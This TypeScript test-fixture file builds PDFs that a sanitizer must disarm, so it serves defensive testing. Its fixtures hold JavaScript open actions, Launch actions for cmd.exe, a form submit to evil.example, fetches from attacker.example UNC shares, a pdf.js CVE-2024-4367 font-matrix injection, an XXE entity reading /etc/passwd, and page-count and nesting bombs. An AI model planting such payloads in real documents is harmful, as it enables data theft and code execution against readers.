/**
 * PDFs carrying active content, made with pdf-lib at test time (nothing binary is
 * committed): every kind pdf-sanitize must take out, saved with object streams so the
 * scripts sit inside compressed streams, plus the links and text it must keep.
 */
import {
  PDFDict,
  PDFDocument,
  PDFName,
  PDFRawStream,
  PDFString,
  rgb,
  StandardFonts,
  type PDFObject,
  type PDFRef,
} from '@cantoo/pdf-lib';

export async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const first = doc.addPage([400, 400]);
  first.drawText('Quarterly report, page one', { x: 40, y: 300, size: 14, font });
  doc.addPage([400, 400]).drawText('Page two', { x: 40, y: 300, size: 14, font });
  const ctx = doc.context;
  const obj = (value: Record<string, unknown>) => ctx.obj(value as never) as unknown as PDFDict;
  const ref = (dict: PDFDict): PDFRef => ctx.register(dict);
  const js = (code: string) => obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });

  // Opening the document runs a script; so does a document-level named script.
  doc.catalog.set(PDFName.of('OpenAction'), ref(js('app.alert("open")')));
  const scripts = obj({ Names: [PDFString.of('init'), ref(js('app.alert("named")'))] });
  const embedded = ctx.flateStream('MZ pretend executable', { Type: 'EmbeddedFile' });
  const spec = obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), EF: { F: ctx.register(embedded) } });
  const files = obj({ Names: [PDFString.of('payload.exe'), ref(spec)] });
  doc.catalog.set(PDFName.of('Names'), obj({ JavaScript: ref(scripts), EmbeddedFiles: ref(files) }));
  // An XFA form with a field whose keystroke runs a script.
  const field = obj({ FT: 'Tx', T: PDFString.of('amount'), AA: { K: js('event.rc = true') } });
  doc.catalog.set(PDFName.of('AcroForm'), obj({ Fields: [ref(field)], XFA: ref(obj({})) }));
  doc.catalog.set(PDFName.of('NeedsRendering'), ctx.obj(true));

  // The first page runs a script when opened, and carries links and attachments.
  first.node.set(PDFName.of('AA'), obj({ O: js('app.alert("page")') }));
  const link = (action: Record<string, unknown>) =>
    ref(obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: action }));
  const annots = [
    link({ S: 'Launch', F: PDFString.of('cmd.exe') }),
    link({ S: 'URI', URI: PDFString.of('https://example.org/report') }),
    link({ S: 'URI', URI: PDFString.of('file:///etc/passwd') }),
    link({ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }),
    link({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] }),
    ref(obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [0, 0, 10, 10], FS: ref(spec) })),
    ref(obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 10, 10] })),
  ];
  first.node.set(PDFName.of('Annots'), ctx.obj(annots));
  // Object streams: the scripts above end up inside compressed streams.
  return doc.save({ useObjectStreams: true });
}

/**
 * What acts when the file is merely opened, or reaches outside it, in the shapes the issue's
 * outside checks found surviving a deny-list: a Thread open action aimed at a UNC share, a
 * catalog base URI, images fetched from elsewhere, a font matrix carrying a string (pdf.js
 * CVE-2024-4367), XMP metadata declaring entities, a print-on-open chained behind a page
 * jump; plus an inherited page-tree action, a reference XObject and a stray launch. Beside
 * them what a disarmed file keeps: an internal link, an outline entry, page-turn buttons,
 * a web link and clean page metadata. Saved with object streams.
 */
export async function actsOnOpenPdf(jpeg: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const image = await doc.embedJpg(jpeg);
  const first = doc.addPage([400, 400]);
  first.drawText('Invoice 2024-117', { x: 40, y: 300, size: 14, font });
  first.drawImage(image, { x: 40, y: 40, width: 80, height: 60 });
  const second = doc.addPage([400, 400]);
  second.drawText('Terms and conditions', { x: 40, y: 300, size: 14, font });
  await doc.flush();
  const ctx = doc.context;
  const obj = (value: Record<string, unknown>) => ctx.obj(value as never) as unknown as PDFDict;
  const ref = (value: PDFObject): PDFRef => ctx.register(value);
  // PDFString.of writes its text as is: backslashes and parentheses are escaped here.
  const str = (text: string) => PDFString.of(text.replace(/[\\()]/g, '\\$&'));
  const set = (dict: PDFDict, key: string, value: unknown) => dict.set(PDFName.of(key), value as never);

  // On open: jump to page 2, then print (a chain), and a second document-level trip outside.
  set(
    doc.catalog,
    'OpenAction',
    obj({ S: 'GoTo', D: [second.ref, 'Fit'], Next: { S: 'Named', N: 'Print' } }),
  );
  set(doc.catalog, 'URI', obj({ Base: str('https://tracker.example/') }));
  set(doc.catalog, 'Collection', obj({ Type: 'Collection' }));
  // An inherited action: on the page-tree node every page inherits from.
  set(
    doc.catalog.Pages(),
    'AA',
    obj({ O: { S: 'Thread', F: str('\\\\attacker.example\\share\\x.pdf'), D: 0 } }),
  );
  // The image's data is fetched from a URL on render; the font's matrix is a script.
  set(
    (ctx.lookup(image.ref) as PDFRawStream).dict,
    'F',
    obj({ FS: 'URL', F: str('https://attacker.example/pixel.jpg') }),
  );
  set(
    ctx.lookup(font.ref, PDFDict),
    'FontMatrix',
    ctx.obj([1, 0, 0, 1, 0, str('1); alert(document.domain')] as never),
  );
  // A reference XObject drawing a page of another file; a launch where no reader looks.
  const reference = ctx.stream('', {
    Type: 'XObject',
    Subtype: 'Form',
    BBox: [0, 0, 10, 10],
    Ref: { F: str('\\\\attacker.example\\doc.pdf'), Page: 0 },
  });
  const resources = first.node.Resources()!;
  set(resources.lookup(PDFName.of('XObject'), PDFDict), 'Ref0', ref(reference));
  set(first.node, 'PieceInfo', obj({ Stray: { S: 'Launch', F: str('calc.exe') } }));
  // XMP metadata declaring an external entity; clean XMP on page 2 stays.
  const xxe =
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
    '<x:xmpmeta xmlns:x="adobe:ns:meta/">&xxe;</x:xmpmeta>';
  set(doc.catalog, 'Metadata', ref(ctx.stream(xxe, { Type: 'Metadata', Subtype: 'XML' })));
  const cleanXmp = '<?xml version="1.0"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><page/></x:xmpmeta>';
  set(second.node, 'Metadata', ref(ctx.flateStream(cleanXmp, { Type: 'Metadata', Subtype: 'XML' })));

  // Links: kept — inside the document, page turns, the web; taken out — a remote file, a thread.
  const link = (action: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
    ref(obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: action, ...extra }));
  set(
    first.node,
    'Annots',
    ctx.obj([
      link({ S: 'GoTo', D: [second.ref, 'Fit'] }),
      link({ S: 'Named', N: 'NextPage' }),
      link({ S: 'URI', URI: str('https://example.org/terms') }),
      link({ S: 'GoToR', F: str('\\\\attacker.example\\share\\a.pdf'), D: [0, 'Fit'] }),
      link({ S: 'Thread', F: { FS: 'URL', F: str('https://attacker.example/thread') }, D: 0 }),
      link({ S: 'GoTo', D: [second.ref, 'Fit'] }, { PA: { S: 'Launch', F: str('cmd.exe') } }),
      ref(obj({ Type: 'Annot', Subtype: 'Sound', Rect: [0, 0, 10, 10] })),
      ref(obj({ Type: 'Annot', Subtype: 'Projection', Rect: [0, 0, 10, 10] })),
    ] as never),
  );
  // An outline of one entry that goes to page 2.
  const outlines = obj({ Type: 'Outlines', Count: 1 });
  const outlinesRef = ref(outlines);
  const item = obj({ Title: str('Terms'), Parent: outlinesRef, A: { S: 'GoTo', D: [second.ref, 'Fit'] } });
  const itemRef = ref(item);
  set(outlines, 'First', itemRef);
  set(outlines, 'Last', itemRef);
  set(doc.catalog, 'Outlines', outlinesRef);
  return doc.save({ useObjectStreams: true });
}

/** A plain PDF of `pages` pages. */
export async function plainPdf(pages: number): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < pages; i++) doc.addPage([200, 200]).drawText(`Page ${i + 1}`, { x: 20, y: 100 });
  return doc.save();
}

/**
 * An encrypted PDF: with a user password it needs it to be opened; with an empty one (owner
 * only) anyone may read it. The owner-only one also carries a script.
 */
export async function encryptedPdf(userPassword = 'secret'): Promise<Uint8Array> {
  const plain = await PDFDocument.create();
  plain.addPage([200, 200]).drawText('restricted but readable', { x: 20, y: 100 });
  plain.catalog.set(
    PDFName.of('OpenAction'),
    plain.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
  );
  // Encrypted after a first save, as a tool would: every string and stream is encrypted.
  const doc = await PDFDocument.load(await plain.save());
  doc.encrypt({ userPassword, ownerPassword: 'owner' });
  return doc.save();
}

/** Names a security scanner looks for in raw bytes (pdfid's list). */
export const RISKY_NAMES = [
  '/JavaScript',
  '/JS',
  '/AA',
  '/Launch',
  '/EmbeddedFile',
  '/XFA',
  '/RichMedia',
  '/SubmitForm',
  '/GoToR',
  '/FileAttachment',
  '/NeedsRendering',
  '/ObjStm',
];

/**
 * A PDF written by hand from its objects' bodies (object 1 is the catalog), with a correct
 * cross-reference table: for shapes pdf-lib will not write.
 */
export function handWrittenPdf(objects: string[], trailerExtra = ''): Uint8Array {
  let text = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(text, 'latin1'));
    text += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(text, 'latin1');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f\r\n`;
  for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n\r\n`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

const PAGE_WITH_TEXT = [
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
  '<< /Length 44 >>\nstream\nBT /F1 18 Tf 20 100 Td (Hello there) Tj ET\nendstream',
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
];

/**
 * A page-count bomb of a few hundred bytes: nine levels of page-tree nodes, each listing the
 * next ten times, so a reader that believes it walks a billion pages (all the same one).
 */
export function pageCountBombPdf(): Uint8Array {
  const levels = 9;
  const node = (i: number) => 6 + i; // objects 6… are the inner levels; 2 is the root
  const tenTimes = (ref: number) => Array(10).fill(`${ref} 0 R`).join(' ');
  const inner = Array.from({ length: levels - 1 }, (_, i) => {
    const next = i === levels - 2 ? 3 : node(i + 1);
    return `<< /Type /Pages /Count ${10 ** (levels - 1 - i)} /Kids [${tenTimes(next)}] >>`;
  });
  return handWrittenPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count ${10 ** levels} /Kids [${tenTimes(node(0))}] >>`,
    ...PAGE_WITH_TEXT,
    ...inner,
  ]);
}

/** One page of text, and an object of arrays nested `depth` deep that the catalog refers to. */
export function deeplyNestedPdf(depth = 100_000): Uint8Array {
  return handWrittenPdf([
    '<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    ...PAGE_WITH_TEXT,
    '['.repeat(depth) + ']'.repeat(depth),
  ]);
}

/** Two pages with a red square and black text, for colour checks. */
export async function colourPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < 2; i++) {
    const page = doc.addPage([300, 200]);
    page.drawRectangle({ x: 20, y: 20, width: 100, height: 100, color: rgb(1, 0, 0) });
    page.drawText(`Colour page ${i + 1}`, { x: 150, y: 100, size: 14 });
  }
  return doc.save();
}

/** A form with a filled-in text field (and its appearance) and a check box. */
export async function formPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([300, 200]);
  const form = doc.getForm();
  const field = form.createTextField('name');
  field.setText('Alice Example');
  field.addToPage(page, { x: 20, y: 120, width: 200, height: 30 });
  form.createCheckBox('agree').addToPage(page, { x: 20, y: 60, width: 20, height: 20 });
  return doc.save();
}

/**
 * One page under a chain of `depth` page-tree nodes: valid, but deeper than pdf-lib will
 * walk (its traversal recurses) or than the structural mode accepts; pdf.js draws it.
 */
export function deepPageTreePdf(depth = 20_000): Uint8Array {
  const page = depth + 2;
  const chain = Array.from(
    { length: depth },
    (_, i) => `<< /Type /Pages /Count 1 /Kids [${i === depth - 1 ? page : i + 3} 0 R] >>`,
  );
  return handWrittenPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    ...chain,
    `<< /Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 300 200] /Contents ${page + 1} 0 R ` +
      `/Resources << /Font << /F1 ${page + 2} 0 R >> >> >>`,
    PAGE_WITH_TEXT[1]!,
    PAGE_WITH_TEXT[2]!,
  ]);
}

/** Bytes that are no file format at all (a fixed pseudo-random sequence). */
export function noiseBytes(length = 5000): Buffer {
  const bytes = Buffer.alloc(length);
  let x = 2463534242;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    bytes[i] = x & 0xff;
  }
  return bytes;
}
